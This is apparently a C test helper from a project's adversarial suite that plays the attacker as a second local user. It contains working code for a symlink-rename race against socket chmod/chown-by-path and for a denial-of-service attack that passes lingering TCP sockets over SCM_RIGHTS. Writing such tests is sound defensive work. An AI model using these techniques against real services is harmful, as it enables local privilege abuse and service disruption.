/* SPDX-License-Identifier: MIT */
/* The attacker's side of the adversarial suite, run as a real second local
 * user (test-adversary.sh starts it with setpriv).  Each command is one
 * attack from docs/security.md; it prints what it did on stdout and, where
 * the attack is a lasting one, holds on until it is killed.
 *
 *   swap-socket PATH TARGET   whenever PATH is a socket, rename a symlink to
 *                             TARGET over it (the chmod/chown-by-path race);
 *                             where the directory is sticky the rename fails,
 *                             and it keeps trying
 *   pass-fd PATH TYPE N       connect N times to the service at PATH
 *                             (TYPE stream or seqpacket) and pass each a TCP
 *                             socket whose close() lingers, then hold on */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <unistd.h>

#include "../lingering.h"

static volatile sig_atomic_t stop;

static void on_term(int sig)
{
	(void)sig;
	stop = 1;
}

static int swap_socket(const char *path, const char *target)
{
	char tmp[4200];
	snprintf(tmp, sizeof(tmp), "%s.adv%d", path, (int)getpid());
	unsigned long swaps = 0;
	bool ready = false;
	while (!stop) {
		/* The symlink waits beside the path, so that only rename() is
		 * left once the socket shows: the window is microseconds wide. */
		if (!ready) {
			unlink(tmp);
			ready = symlink(target, tmp) == 0;
			if (ready && swaps == 0)
				printf("ready\n"); /* spinning: start the service */
		}
		struct stat st;
		if (lstat(path, &st) < 0 || !S_ISSOCK(st.st_mode))
			continue;
		if (rename(tmp, path) == 0) {
			swaps++;
			ready = false;
		}
	}
	unlink(tmp);
	printf("swaps %lu\n", swaps);
	return 0;
}

static int pass_fd(const char *path, const char *type, int n)
{
	int st = !strcmp(type, "seqpacket") ? SOCK_SEQPACKET : SOCK_STREAM;
	int keep[64];
	int sent = 0, refused = 0, other = 0;
	if (n > 64)
		n = 64;
	for (int i = 0; i < n; i++) {
		int l = -1, t = lingering_socket(&l, 120);
		if (t < 0) {
			printf("setup failed: %s\n", strerror(errno));
			return 1;
		}
		keep[i] = l; /* the reader who never reads */
		int s = socket(AF_UNIX, st | SOCK_CLOEXEC, 0);
		struct sockaddr_un sa = {.sun_family = AF_UNIX};
		snprintf(sa.sun_path, sizeof(sa.sun_path), "%s", path);
		if (connect(s, (struct sockaddr *)&sa, sizeof(sa)) < 0) {
			printf("connect failed: %s\n", strerror(errno));
			return 1;
		}
		char msg[64] = {0};
		struct iovec iov = {.iov_base = msg, .iov_len = st == SOCK_SEQPACKET ? sizeof(msg) : 8};
		union {
			struct cmsghdr h;
			char b[CMSG_SPACE(sizeof(int))];
		} cm;
		memset(&cm, 0, sizeof(cm));
		struct msghdr m = {.msg_iov = &iov, .msg_iovlen = 1, .msg_control = cm.b,
				   .msg_controllen = sizeof(cm.b)};
		struct cmsghdr *c = CMSG_FIRSTHDR(&m);
		c->cmsg_level = SOL_SOCKET;
		c->cmsg_type = SCM_RIGHTS;
		c->cmsg_len = CMSG_LEN(sizeof(int));
		memcpy(CMSG_DATA(c), &t, sizeof(int));
		if (sendmsg(s, &m, MSG_NOSIGNAL) >= 0) {
			sent++;
		} else {
			if (errno == EPERM)
				refused++;
			else
				other++;
			/* Ours is the last reference: don't sleep in our own trap. */
			struct linger now = {.l_onoff = 1, .l_linger = 0};
			setsockopt(t, SOL_SOCKET, SO_LINGER, &now, sizeof(now));
		}
		close(t); /* if the service took it, it holds the last reference */
		close(s);
	}
	printf("sent %d refused %d failed %d\n", sent, refused, other);
	fflush(stdout);
	while (!stop)
		pause();
	for (int i = 0; i < n; i++)
		close(keep[i]);
	return 0;
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	struct sigaction sa = {.sa_handler = on_term};
	sigaction(SIGTERM, &sa, NULL);
	sigaction(SIGINT, &sa, NULL);
	if (argc == 4 && !strcmp(argv[1], "swap-socket"))
		return swap_socket(argv[2], argv[3]);
	if (argc == 5 && !strcmp(argv[1], "pass-fd"))
		return pass_fd(argv[2], argv[3], atoi(argv[4]));
	fprintf(stderr, "usage: adversary swap-socket PATH TARGET | pass-fd PATH stream|seqpacket N\n");
	return 2;
}
